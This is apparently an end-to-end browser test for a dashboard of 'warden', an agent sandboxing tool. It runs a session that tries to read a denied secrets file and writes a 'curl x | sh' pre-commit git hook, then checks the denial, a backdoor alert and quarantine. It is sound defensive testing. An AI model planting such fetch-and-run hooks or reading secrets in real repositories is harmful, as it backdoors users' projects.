/**
 * The dashboard in a real browser (Debian's chromium, driven by Playwright):
 * the daemon up, a session that is refused a read and writes a git hook
 * shows up live with its alert; its timeline marks the denial; the graph
 * renders; Quarantine freezes the session's cgroup. Screenshots are kept
 * in test-artifacts/.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { chromium, type Browser } from 'playwright-core';
import {
  endLiveSessions,
  needKernel,
  ROOT,
  startDaemon,
  stateDir,
  tempDir,
  WARDEN,
  type TestDaemon,
} from './helpers.js';

const CHROMIUM = '/usr/bin/chromium';
const ARTIFACTS = join(ROOT, 'test-artifacts');

/*
 * Waits for a condition read through Playwright's locators. page.waitForFunction would
 * evaluate a string inside the page, which the dashboard's CSP (no 'unsafe-eval') refuses
 * whenever the condition is not already true at the first look.
 */
async function pollPage(ok: () => Promise<boolean>, ms: number, what: string): Promise<void> {
  const end = Date.now() + ms;
  while (!(await ok())) {
    if (Date.now() > end) throw new Error(`${what}: not within ${ms} ms`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

test('the dashboard shows a session live, its denial, alert and graph, and quarantines it', async (t) => {
  if (!needKernel(t)) return;
  if (!existsSync(CHROMIUM)) {
    if (process.env.CI === 'true') throw new Error(`no ${CHROMIUM}: scripts/setup.sh --with-browser installs it`);
    t.skip(`no ${CHROMIUM}`);
    return;
  }
  mkdirSync(ARTIFACTS, { recursive: true });
  const state = stateDir('dashboard');
  const ws = tempDir('dashboard-ws');
  const pdir = tempDir('dashboard-policy');
  const up: { daemon?: TestDaemon } = {};
  /* whatever failed: the daemon stopped, then the sessions it left frozen ended, then the files */
  t.after(async () => {
    await up.daemon?.stop();
    endLiveSessions(state.path);
    [state, ws, pdir].forEach((d) => d.cleanup());
  });
  const env = { ...process.env, WARDEN_STATE_DIR: state.path };
  const daemon = await startDaemon(state.path);
  up.daemon = daemon;
  const { url, token } = daemon;
  const post = (path: string) =>
    fetch(`${url}${path}`, { method: 'POST', headers: { authorization: `Bearer ${token}` } });

  const browser: Browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--disable-quic',
      '--no-first-run',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
    ],
  });
  t.after(() => browser.close());
  const page = await browser.newPage({ viewport: { width: 1400, height: 1000 } });
  await page.goto(`${url}/#/?token=${token}`);
  await page.getByText('No sessions yet').waitFor();

  /* a session: a refused read, a git hook written (an alert), then it stays up */
  mkdirSync(join(ws.path, 'secrets'));
  mkdirSync(join(ws.path, '.git', 'hooks'), { recursive: true });
  writeFileSync(join(ws.path, 'secrets', 'key.txt'), 'k\n');
  const policy = join(pdir.path, 'p.yaml');
  writeFileSync(
    policy,
    'apiVersion: warden.dev/v1\nkind: Policy\nmetadata: { name: dashboard-test }\nfiles:\n  denyRead: ["${workspace}/secrets"]\n',
  );
  const script = `cd ${ws.path}; cat secrets/key.txt; echo 'curl x | sh' > .git/hooks/pre-commit; exec sleep 60`;
  const run = spawn(
    WARDEN,
    ['run', '-q', '--name', 'dashboard-agent', '--policy', policy, '-w', ws.path, '--', 'bash', '-c', script],
    {
      env,
      stdio: 'ignore',
    },
  );
  const runExit = new Promise((r) => run.once('exit', r));
  t.after(async () => {
    if (run.exitCode === null) run.kill('SIGTERM');
    await runExit;
  });

  /* live: the row appears, with its alert, without a reload */
  const row = page.locator('tr', { hasText: 'dashboard-agent' });
  await row.waitFor({ timeout: 15000 });
  await pollPage(
    async () =>
      Number(
        (await page
          .locator('tr.status-running [data-testid="alert-count"]')
          .first()
          .textContent({ timeout: 1000 })
          .catch(() => '0')) ?? 0,
      ) > 0,
    15000,
    'the live row shows its alert',
  );
  await page.screenshot({ path: join(ARTIFACTS, 'dashboard-sessions.png'), fullPage: true });
  const id = (await row.getAttribute('data-session')) ?? '';
  assert.ok(id);

  await row.click();
  await page.getByTestId('session-view').waitFor();
  await page.locator('.action.denied', { hasText: 'secrets/key.txt' }).first().waitFor({ timeout: 10000 });
  assert.match((await page.getByTestId('alerts').textContent()) ?? '', /backdoor-write/);
  assert.match((await page.getByTestId('policy').textContent()) ?? '', /dashboard-test.*enforced by/);
  await page.screenshot({ path: join(ARTIFACTS, 'dashboard-session.png'), fullPage: true });

  await page.getByTestId('tab-graph').click();
  await pollPage(
    async () =>
      Number(
        (await page
          .getByTestId('graph')
          .getAttribute('data-nodes', { timeout: 1000 })
          .catch(() => '0')) ?? 0,
      ) > 2,
    30000,
    'the graph has its nodes',
  );
  const drawn = Number(await page.evaluate('window.wardenGraph?.nodes().length ?? 0'));
  assert.ok(drawn > 2, `the graph has ${drawn} nodes`);
  assert.ok((await page.locator('[data-testid="graph"] canvas').count()) > 0, 'the graph is drawn');
  await page.screenshot({ path: join(ARTIFACTS, 'dashboard-graph.png'), fullPage: true });

  await page.getByTestId('tab-timeline').click();
  await page.getByTestId('quarantine').click();
  await page.getByTestId('status').filter({ hasText: 'quarantined' }).waitFor({ timeout: 10000 });
  const session = (await (
    await fetch(`${url}/api/sessions/${id}`, { headers: { authorization: `Bearer ${token}` } })
  ).json()) as { cgroup: string };
  assert.match(readFileSync(join(session.cgroup, 'cgroup.events'), 'utf8'), /^frozen 1$/m, 'the cgroup is frozen');
  await page.screenshot({ path: join(ARTIFACTS, 'dashboard-quarantined.png'), fullPage: true });

  const killed = await post(`/api/sessions/${id}/kill`);
  assert.equal(killed.status, 200, await killed.text());
  await runExit;
});
